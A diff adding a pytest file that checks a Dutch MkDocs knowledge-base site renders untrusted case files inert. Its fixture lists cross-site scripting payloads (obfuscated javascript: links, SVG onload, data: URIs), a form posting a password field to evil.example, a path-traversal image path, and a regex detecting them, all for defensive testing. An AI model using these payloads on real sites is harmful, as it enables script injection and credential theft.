@@ -1,0 +1,128 @@
+"""Cases come from strangers: nothing in a case file may run code or reach readers as script."""
+
+from __future__ import annotations
+
+import re
+from pathlib import Path
+
+import pytest
+from kennisbank.loader import load_content
+from kennisbank.problems import ContentError, Problem
+
+from tests.conftest import ROOT, copy_content, mkdocs_build
+
+BASE = (ROOT / "cases" / "buurtmoestuin-de-akker.md").read_text(encoding="utf-8").replace("titel: Voedselcoöperatie De Akker", "titel: Vijandige proefcasus")
+
+HOSTILE_BODY = """
+## Aanval
+
+<script>alert('script')</script>
+<iframe src="https://evil.example/"></iframe>
+<style>body { display: none }</style>
+<form action="https://evil.example/"><input name="wachtwoord"></form>
+<meta http-equiv="refresh" content="0; url=https://evil.example/">
+<p onclick="alert('klik')">klik hier</p>
+<a href="javascript:alert('js')">js</a>
+<a href="JaVaScRiPt:alert('gemengd')">gemengd</a>
+<a href="&#106;avascript:alert('entiteit')">entiteit</a>
+<a href="jav&#x09;ascript:alert('tab')">tab</a>
+<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>
+<svg onload="alert('svg')"><circle r="1"/></svg>
+<object data="https://evil.example/x.swf"></object>
+<embed src="https://evil.example/x.swf">
+
+[markdown-js](javascript:alert('md'))
+
+[attr-list](https://voorbeeld.nl){: onclick="alert('attr')" onmouseover="alert('over')" }
+
+Een alinea met attributen.
+{: onmouseover="alert('alinea')" style="position:fixed" }
+"""
+
+FORBIDDEN = re.compile(
+    r"<script|<iframe|<style|<form|<input|<meta|<svg|<object|<embed|\son[a-z]+\s*=|javascript:|data:text|position:fixed|evil\.example",
+    re.IGNORECASE,
+)
+
+
+def article(html: str) -> str:
+    match = re.search(r"<article[^>]*>(.*)</article>", html, re.S)
+    assert match
+    return match.group(1)
+
+
+def test_hostile_html_in_a_case_is_rendered_inert(tmp_path: Path) -> None:
+    root = copy_content(tmp_path / "repo")
+    (root / "cases" / "vijandig.md").write_text(BASE + HOSTILE_BODY, encoding="utf-8")
+    result = mkdocs_build(root, tmp_path / "site")
+    assert result.returncode == 0, result.stderr
+    body = article((tmp_path / "site" / "casussen" / "vijandig" / "index.html").read_text(encoding="utf-8"))
+    assert "klik hier" in body and "Een alinea met attributen." in body
+    assert FORBIDDEN.findall(body) == []
+    assert 'href="https://voorbeeld.nl"' in body
+
+
+def problems_of(root: Path) -> list[Problem]:
+    with pytest.raises(ContentError) as caught:
+        load_content(root)
+    return caught.value.problems
+
+
+@pytest.mark.parametrize(
+    ("body", "expected"),
+    [
+        ("![](foto.png)", "geen beschrijving (alt-tekst)"),
+        ("![Een foto](https://evil.example/pixel.png)", "staat op een andere website"),
+        ("![Een foto](//evil.example/pixel.png)", "staat op een andere website"),
+        ("![Een foto](../../etc/passwd.png)", "bestaat niet in cases/"),
+        ('<img src="foto.png" alt="x">', "gebruik geen HTML voor afbeeldingen"),
+        ("# Tweede titel", "kop met één '#'"),
+    ],
+)
+def test_case_body_rules(body: str, expected: str, tmp_path: Path) -> None:
+    root = copy_content(tmp_path / "repo")
+    (root / "cases" / "foto.png").write_bytes(b"\x89PNG\r\n\x1a\n" + b"\x00" * 32)
+    (root / "cases" / "beeld.md").write_text(BASE + "\nTekst.\n\n" + body + "\n", encoding="utf-8")
+    problems = problems_of(root)
+    assert [p.path for p in problems] == ["cases/beeld.md"], [str(p) for p in problems]
+    assert expected in problems[0].message
+    assert problems[0].line == BASE.count("\n") + 4
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "expected"),
+    [
+        ("aanval.svg", b"<svg onload='alert(1)'/>", "alleen casussen (.md) en afbeeldingen"),
+        ("script.js", b"alert(1)", "alleen casussen (.md) en afbeeldingen"),
+        ("nep.png", b"<html>geen plaatje</html>", "geen echte PNG-afbeelding"),
+        ("groot.jpg", b"\xff\xd8\xff" + b"\x00" * 1_100_000, "de grens is 1000 kB"),
+    ],
+)
+def test_only_small_real_images_may_sit_beside_cases(name: str, content: bytes, expected: str, tmp_path: Path) -> None:
+    root = copy_content(tmp_path / "repo")
+    (root / "cases" / name).write_bytes(content)
+    problems = problems_of(root)
+    assert [p.path for p in problems] == [f"cases/{name}"]
+    assert expected in problems[0].message
+
+
+def test_a_folder_in_cases_is_refused(tmp_path: Path) -> None:
+    root = copy_content(tmp_path / "repo")
+    (root / "cases" / "afbeeldingen").mkdir()
+    assert "mappen zijn niet toegestaan" in problems_of(root)[0].message
+
+
+def test_an_image_beside_a_case_is_published_with_its_alt_text(tmp_path: Path) -> None:
+    root = copy_content(tmp_path / "repo")
+    png = bytes.fromhex(
+        "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da6300010000050001" + "0d0a2db40000000049454e44ae426082"
+    )
+    (root / "cases" / "akker.png").write_bytes(png)
+    (root / "cases" / "met-foto.md").write_text(
+        BASE.replace("Vijandige proefcasus", "Casus met foto") + "\n![De akker in de zomer](akker.png)\n", encoding="utf-8"
+    )
+    result = mkdocs_build(root, tmp_path / "site")
+    assert result.returncode == 0, result.stderr
+    body = article((tmp_path / "site" / "casussen" / "met-foto" / "index.html").read_text(encoding="utf-8"))
+    assert '<img alt="De akker in de zomer" src="../akker.png"' in body
+    assert (tmp_path / "site" / "casussen" / "akker.png").read_bytes() == png
